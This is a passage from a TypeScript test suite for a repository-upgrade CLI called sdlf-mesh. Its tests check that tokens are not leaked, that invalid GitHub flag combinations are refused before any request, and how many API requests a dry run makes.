    const found = JSON.parse(exfiltrated);
    expect(found.ancestors.length).toBeGreaterThan(3);
    for (const token of [TOKEN, ...simulation.tokens.map((candidate) => candidate.token)]) {
      expect(exfiltrated).not.toContain(token);
    }
    expect(Object.keys(found.env).filter((key) => /TOKEN/.test(key))).toEqual([]);
  });
});

test('GitHub flags that cannot work are refused before any request', async () => {
  const server = await standIn();
  await seedFleet(server, SEEDS.slice(0, 2));
  const list = path.join(scratch, 'repos.txt');
  const cases: Array<[string[], Record<string, string>, RegExp]> = [
    [['--org', 'acme'], { GITHUB_API_URL: server.url }, /Invalid option "--org": the repositories are on GitHub, which needs a token: set GITHUB_TOKEN or GH_TOKEN, or give --token-file <file>/],
    [['--org', 'acme', '--remotes-dir', scratch], envFor(server), /Invalid option "--remotes-dir": is for local remotes: leave it out with --org/],
    [['--topic', 'sdlf-domain'], envFor(server), /Invalid option "--topic": name the organization too: --org <org> --topic sdlf-domain/],
    [['--org', 'acme', '--topic', 'x', '--property', 'kind=domain'], envFor(server), /Invalid option "--property": give --topic or --property, not both/],
    [['--org', 'acme', '--property', 'kind'], envFor(server), /Invalid option "--property": "kind" is not name=value/],
    [['--repos', list], envFor(server), /Invalid option "--repos": "acme\/bad name" is not owner\/name/],
  ];
  fs.writeFileSync(list, 'acme/billing-data\nacme/bad name\n');
  for (const [flags, env, message] of cases) {
    const refused = await runSdlfMesh(['upgrade', '--to', target, ...flags], env);
    expect([refused.exitCode, refused.output]).toEqual([1, expect.stringMatching(message)]);
  }
  expect(server.counts().total).toBe(0);

  // A list of owner/name lines is the fleet: each repository is looked up (and its package.json
  // read, for the template it is at), and a missing one is named.
  fs.writeFileSync(list, 'acme/billing-data\nacme/claims-data\n');
  const planned = await runSdlfMesh(['upgrade', '--to', target, '--repos', list, '--dry-run'], envFor(server));
  expect(planned.exitCode).toBe(0);
  expect(planned.output).toMatch(/^acme\/billing-data: clone, pin file:.* open or update its upgrade request$/m);
  expect(planned.output).toMatch(/^acme\/claims-data: clone/m);
  expect(server.counts()).toEqual({ total: 4, contentCreating: 0, git: 0 });
  fs.writeFileSync(list, 'acme/billing-data\nacme/nowhere\n');
  const missing = await runSdlfMesh(['upgrade', '--to', target, '--repos', list, '--dry-run'], envFor(server));
  expect(missing.output).toMatch(/Invalid option "--repos": acme\/nowhere is not on GitHub, or the token cannot see it/);
  expect(server.violations).toEqual([]);
});

test('request counts and timings (API requests, content-creating, git requests)', () => {
  console.log(
    Object.entries(measured)
      .map(([name, counts]) =>
        `${name.padEnd(28)} ${String(counts.total).padStart(3)} API requests, ${String(counts.contentCreating).padStart(2)} content-creating, ${String(counts.git).padStart(3)} git` +
        (counts.seconds === undefined ? '' : `, ${counts.seconds.toFixed(1)} s`),
      )
      .join('\n'),
  );
  expect(measured['re-run (1)']?.contentCreating).toBe(0);
});
